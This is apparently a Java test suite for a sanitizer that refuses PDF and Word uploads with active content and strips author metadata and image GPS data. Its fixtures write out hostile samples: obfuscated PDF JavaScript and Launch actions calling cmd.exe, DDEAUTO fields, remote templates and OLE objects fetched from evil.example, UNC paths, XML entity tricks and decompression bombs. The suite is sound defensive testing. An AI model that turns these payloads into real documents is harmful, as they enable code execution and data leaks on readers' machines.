package org.fristad.papers;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.fristad.papers.SomeFiles.bytes;
import static org.fristad.papers.SomeFiles.document;
import static org.fristad.papers.SomeFiles.field;
import static org.fristad.papers.SomeFiles.joined;
import static org.fristad.papers.SomeFiles.mark;
import static org.fristad.papers.SomeFiles.packed;
import static org.fristad.papers.SomeFiles.pdf;
import static org.fristad.papers.SomeFiles.relation;
import static org.fristad.papers.SomeFiles.stream;
import static org.fristad.papers.SomeFiles.word;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipInputStream;
import org.apache.poi.common.usermodel.PictureType;
import org.apache.poi.openxml4j.exceptions.InvalidFormatException;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.assertj.core.api.AbstractThrowableAssert;
import org.fristad.actor.Refused;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** PDF and Word files that run, fetch, hold or hide something are refused; quiet ones are kept. */
class ActiveFilesTests {

    private static final String OBJECTS = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode";

    private static byte[] kept(byte[] file) {
        return Inspection.looked("fil", file, SomeFiles.LIMITS).bytes();
    }

    private static AbstractThrowableAssert<?, ?> refused(byte[] file) {
        return assertThatThrownBy(() -> kept(file)).isInstanceOf(Refused.class);
    }

    @Test
    void aQuietPdfIsKeptAsItIs() {
        for (var quiet : List.of(
                pdf("<< /Type /Page /Annots [<< /A << /S /URI /URI (https://www.regeringen.se) >> >>] >>"),
                pdf(stream("/Filter /FlateDecode", packed(bytes("BT (Launch of the JavaScript) Tj ET")))),
                pdf(stream(OBJECTS, packed(bytes("9 0 << /Title (Beslut om bet\\344nketid) >>")))))) {
            assertThat(kept(quiet)).isEqualTo(quiet);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
                "<< /S/JavaScript/JS(x) >>",
                "<< /S /J#61vaScript /JS (x) >>",
                "<< /S /#4a#61#76#61#53#63#72#69#70#74 >>",
                "<< /S /Launch /F (cmd.exe) >>",
                "<< /S /SubmitForm /F (https://evil.example) >>",
                "<< /S /ImportData >>",
                "<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>",
                "<< /S /GoToE >>",
                "<< /Names << /EmbeddedFiles 4 0 R >> >>",
                "<< /Type /EmbeddedFile >>",
                "<< /Type /Filespec /F (x.exe) >>",
                "<< /Subtype /RichMedia >>",
                "<< /AcroForm << /XFA 5 0 R >> >>",
                "<< /AcroForm << /XFA [(a) 5 0 R] >> >>",
                "<< /S /Rendition >>",
                "<< /Subtype /3D >>",
            })
    void aPdfThatDoesSomethingIsRefusedHoweverItIsWritten(String object) {
        refused(pdf(object)).hasMessage("papers.refused.pdf.active");
        refused(pdf(stream(OBJECTS, packed(bytes("9 0 " + object))))).hasMessage("papers.refused.pdf.active");
    }

    @Test
    void aPdfThatCanNotBeLookedIntoIsRefused() {
        refused(pdf("<< /Encrypt 5 0 R >>")).hasMessage("papers.refused.pdf.locked");
        var active = packed(bytes("9 0 << /S /JavaScript >>"));
        for (var hidden : List.of(
                pdf(stream("/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode", active)),
                pdf(stream("/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", bytes("789c03"))),
                pdf(stream(
                        "/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /ASCIIHexDecode]", packed(bytes("3920")))),
                pdf(stream("/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", bytes("\200\13\140"))),
                pdf(stream(OBJECTS + " /DecodeParms << /Predictor 2 /Colors 32 >>", active)),
                pdf(stream(OBJECTS + " /DecodeParms << /Predictor 7 0 R >>", active)),
                pdf(stream(OBJECTS + " /DecodeParms << /Predictor 12 >>", packed(bytes("\u0001\u0039\u0000")))),
                pdf(joined(
                        bytes("<< /Type /ObjStm (stream\n) "), stream("/N 1 /First 4 /Filter /FlateDecode", active))),
                pdf("<< /Type /ObjStm >>"))) {
            refused(hidden).hasMessage("papers.refused.pdf.broken");
        }
    }

    @Test
    void whatIsPackedIsFoundWhateverTheFileCallsItAndWhateverStandsBefore() {
        var active = packed(bytes("9 0 << /S /JavaScript >>"));
        var decoy = packed(bytes("9 0 << >>"));
        var how = "/N 1 /First 4 /Filter /FlateDecode";
        for (var hidden : List.of(
                pdf(joined(
                        bytes("<< /X <<" + OBJECTS + " /X (stream\n"),
                        decoy,
                        bytes("\nendstream) >> >>"),
                        stream(how, active))),
                pdf(stream(OBJECTS, decoy), stream(how, active)),
                pdf(stream("/Type 5 0 R " + how, active)),
                pdf(stream(how, packed(bytes(" ".repeat(2_000) + "9 0 << /S /JavaScript >>")))),
                pdf(stream(how, packed(bytes("%\n9%\n0 << /S /JavaScript >>")))),
                pdf(joined(bytes("<< " + how + " >>\nstream quietly\r\n"), active, bytes("\nendstream"))))) {
            refused(hidden).hasMessage("papers.refused.pdf.active");
        }
    }

    @Test
    void aPdfThatCallsAPageOfTheWebWhenItIsOpenedIsRefused() {
        var calls = "<< /S /URI /URI (https://evil.example/who) >>";
        for (var active : List.of(
                pdf("<< /OpenAction " + calls + " >>"),
                pdf(bytes("<< /OpenAction 7 0 R >>"), bytes(calls)),
                pdf("<< /Type /Page /AA << /O " + calls + " >> >>"),
                pdf(bytes("<< /Type /Page /#41A 7 0 R >>"), bytes(calls)))) {
            refused(active).hasMessage("papers.refused.pdf.active");
        }
        refused(pdf(joined(bytes("<< /OpenAction 9 0 R >>"), stream(OBJECTS, packed(bytes("9 0 " + calls))))))
                .hasMessage("papers.refused.pdf.active");
        var link = pdf("<< /OpenAction [3 0 R /XYZ null null 0] /Annots [<< /A " + calls + " >>] >>");
        assertThat(kept(link)).isEqualTo(link);
    }

    @Test
    void aPdfThatIsSomethingElseTooOrNotWholeIsRefused() {
        var quiet = pdf("<< /A 1 >>");
        for (var other : List.of(
                joined(quiet, word()),
                joined(bytes("%PDF-1.7\n"), word(), quiet),
                joined(quiet, bytes("<script>alert(1)</script>")),
                bytes("%PDF-1.7\n<html><script>alert(1)</script>"),
                bytes("%PDF-"),
                Arrays.copyOf(quiet, quiet.length - 8))) {
            refused(other).hasMessage("papers.refused.pdf.broken");
        }
        refused(joined(bytes("\n"), quiet, new byte[1])).hasMessage("papers.refused.type");
    }

    @Test
    void aPdfThatUnpacksToFarMoreThanItSeemsIsRefused() {
        refused(pdf(stream(OBJECTS, packed(bytes("9 0 " + " ".repeat(100_000_000))))))
                .hasMessage("papers.refused.pdf.broken");
    }

    @Test
    void aPdfThatPacksItsObjectsInFarTooManyPlacesIsRefused() {
        var one = stream(OBJECTS, packed(bytes("9 0 << >>")));
        assertThat(kept(pdf(one, one, one))).isNotEmpty();
        var many = new byte[20_001][];
        Arrays.fill(many, one);
        refused(pdf(many)).hasMessage("papers.refused.pdf.broken");
        refused(pdf(joined(bytes("<< /Type /ObjStm " + " ".repeat(5_000)), one)))
                .hasMessage("papers.refused.pdf.broken");
    }

    private static Map<String, byte[]> parts(byte[] archive) {
        var parts = new HashMap<String, byte[]>();
        try (var zip = new ZipInputStream(new ByteArrayInputStream(archive))) {
            for (var part = zip.getNextEntry(); part != null; part = zip.getNextEntry()) {
                parts.put(part.getName(), zip.readAllBytes());
            }
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return parts;
    }

    @Test
    void aQuietLetterIsKeptWithoutItsAuthorAndThePlaceOfItsPictures() {
        var letter = SomeFiles.letter();
        var kept = parts(kept(word()));
        assertThat(kept).containsOnlyKeys(letter.keySet());
        for (var name : List.of("[Content_Types].xml", "word/document.xml", "word/_rels/document.xml.rels")) {
            assertThat(kept.get(name)).as(name).isEqualTo(letter.get(name));
        }
        assertThat(new String(kept.get("docProps/core.xml"), StandardCharsets.UTF_8))
                .doesNotContain("Anna");
        assertThat(new String(kept.get("word/media/image1.jpeg"), StandardCharsets.ISO_8859_1))
                .doesNotContain("GPS", "Exif");
        assertThat(new String(kept(joined(word(), bytes("<script>"))), StandardCharsets.ISO_8859_1))
                .doesNotContain("<script>");
    }

    @Test
    void whoHasCommentedAndChangedALetterIsLeftOutAndWhatTheyWroteIsNot() {
        var by = " w:id=\"1\" w:author=\"Anna &gt; Skribent\" w:date='2026-11-25T10:00:00Z' w:initials=\"AS\"";
        var change = document("<w:ins" + by + "><w:r><w:t>nytt w:author=\"Berit\"</w:t></w:r></w:ins>");
        var kept = parts(kept(word("word/document.xml", change)));
        assertThat(new String(kept.get("word/document.xml"), StandardCharsets.UTF_8))
                .isEqualTo(change.replace(by, " w:id=\"1\" w:author=\"Author\" w:initials=\"A\""))
                .contains("nytt w:author=\"Berit\"");

        var comments = "<w:comments xmlns:w=\"w\"><!-- > --><w:comment" + by + "><w:p/></w:comment></w:comments>";
        var people =
                "<w15:people xmlns:w15=\"w\"><w15:person w15:author=\"Anna Skribent\"><w15:presenceInfo w15:userId=\"anna@x\"/></w15:person></w15:people>";
        for (var part : Map.of("word/comments.xml", comments, "word/people.xml", people, "word/p.xml", people)
                .entrySet()) {
            var letter = parts(kept(word(part.getKey(), part.getValue())));
            assertThat(new String(letter.get(part.getKey()), StandardCharsets.UTF_8))
                    .as(part.getKey())
                    .doesNotContain("Anna", "anna", "AS", "2026");
        }
        var elsewhere = parts(kept(word("word/settings.xml", "<a date=\"2026\" b=\"author\">author</a>")));
        assertThat(elsewhere.get("word/settings.xml")).asString().contains("2026");
    }

    @Test
    void aLetterWhoseAuthorsCanNotBeLeftOutIsRefused() {
        var parts = SomeFiles.letter();
        parts.put(
                "word/comments.xml",
                ("<?xml version=\"1.0\" encoding=\"UTF-16\"?><w:comments xmlns:w=\"w\"><w:comment w:author=\"Anna\"/></w:comments>")
                        .getBytes(StandardCharsets.UTF_16));
        refused(SomeFiles.zip(parts)).hasMessage("papers.refused.word.parts");
    }

    @Test
    void aLetterOfARealProgramIsKeptAndStillOpens() throws IOException, InvalidFormatException {
        var written = new ByteArrayOutputStream();
        try (var letter = new XWPFDocument()) {
            letter.getProperties().getCoreProperties().setCreator("Anna Skribent");
            var paragraph = letter.createParagraph();
            paragraph.createRun().setText("Brevet om lägenheten");
            paragraph
                    .createHyperlinkRun("https://www.jamstalldhetsmyndigheten.se/")
                    .setText("Mer");
            paragraph
                    .createRun()
                    .addPicture(
                            new ByteArrayInputStream(SomeFiles.photograph(1)),
                            PictureType.JPEG,
                            "foto.jpg",
                            10_000,
                            10_000);
            letter.createTable(2, 2).getRow(0).getCell(0).setText("Hyra");
            letter.write(written);
        }
        try (var kept = new XWPFDocument(new ByteArrayInputStream(kept(written.toByteArray())))) {
            assertThat(kept.getParagraphs().getFirst().getText()).contains("Brevet om lägenheten");
            assertThat(kept.getTables()).hasSize(1);
            assertThat(kept.getProperties().getCoreProperties().getCreator()).isNull();
            assertThat(new String(kept.getAllPictures().getFirst().getData(), StandardCharsets.ISO_8859_1))
                    .doesNotContain("GPS");
        }
    }

    @Test
    void aLetterThatFetchesOrRunsSomethingIsRefused() {
        var relations = "word/_rels/document.xml.rels";
        for (var active : List.of(
                word(
                        "[Content_Types].xml",
                        SomeFiles.types(
                                "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>")),
                word(
                        "[Content_Types].xml",
                        SomeFiles.types(
                                "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>")),
                word("word/_rels/settings.xml.rels", relation("attachedTemplate", "https://evil.example/x.dotm", true)),
                word("word/_rels/settings.xml.rels", relation("attachedTemplate", "x.dotm", false)),
                word(relations, relation("image", "https://evil.example/x.png", true)),
                word(relations, relation("oleObject", "https://evil.example/x", true)),
                word(relations, relation("oleObject", "embeddings/x.xml", false)),
                word(relations, relation("aFChunk", "x.xml", false)),
                word(relations, relation("frame", "https://evil.example/x", true)),
                word(relations, relation("hyperlink", "file://evil/x", true)),
                word(relations, relation("hyperlink", "\\\\evil\\x", true)),
                word("word/document.xml", document(field("DDEAUTO c:\\windows\\system32\\cmd.exe"))),
                word("word/document.xml", document(field(" DDE", "AUTO x"))),
                word("word/document.xml", document(field(" INCLUDEPICTURE \"https://evil.example\" "))),
                word("word/document.xml", document(field(" HYPERLINK \"\\\\evil\\x\" "))),
                word("word/document.xml", document(mark("begin") + field(" QUOTE 68 68 69 ") + mark("end"))),
                word("word/document.xml", document("<w:fldSimple w:instr=\"DDE x\"/>")),
                word("word/document.xml", document("<w:altChunk/>")),
                word("word/document.xml", document("<w:object/>")),
                word("word/settings.xml", "<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>"),
                word("word/settings.xml", "<?mso-application progid=\"Word.Document\"?><a/>"))) {
            refused(active).hasMessage("papers.refused.word.active");
        }
    }

    @Test
    void aLetterWithPartsThatCanNotBeLookedThroughIsRefused() {
        for (var name :
                List.of("word/vbaProject.bin", "word/media/image2.emf", "word/embeddings/a.xlsx", "x.html", "x.exe")) {
            refused(word(name, "x")).hasMessage("papers.refused.word.parts");
        }
        refused(word("word/media/image2.png", "<svg onload=alert(1)>")).hasMessage("papers.refused.word.parts");
        refused(word("word/media/image2.png", SomeFiles.png(50_000, 50_000, packed(new byte[9]))))
                .hasMessage("papers.refused.pixels");
    }

    @Test
    void anArchiveThatIsNoLetterOrUnpacksToFarMoreThanItSeemsIsRefused() {
        refused(SomeFiles.zip(Map.of("a.xml", bytes("<a/>")))).hasMessage("papers.refused.word.broken");
        for (var name : List.of("../x.xml", "/x.xml", "word\\x.xml", "WORD/document.xml")) {
            refused(word(name, "<a/>")).as(name).hasMessage("papers.refused.word.broken");
        }
        refused(word("word/x.xml", "<a>" + " ".repeat(40_000_000) + "</a>")).hasMessage("papers.refused.word.bomb");
        refused(word("word/x.xml", "<a>")).hasMessage("papers.refused.word.broken");
        var parts = SomeFiles.letter();
        for (int i = 0; i < 1_001; i++) {
            parts.put("word/x" + i + ".xml", bytes("<a/>"));
        }
        refused(SomeFiles.zip(parts)).hasMessage("papers.refused.word.broken");
    }
}
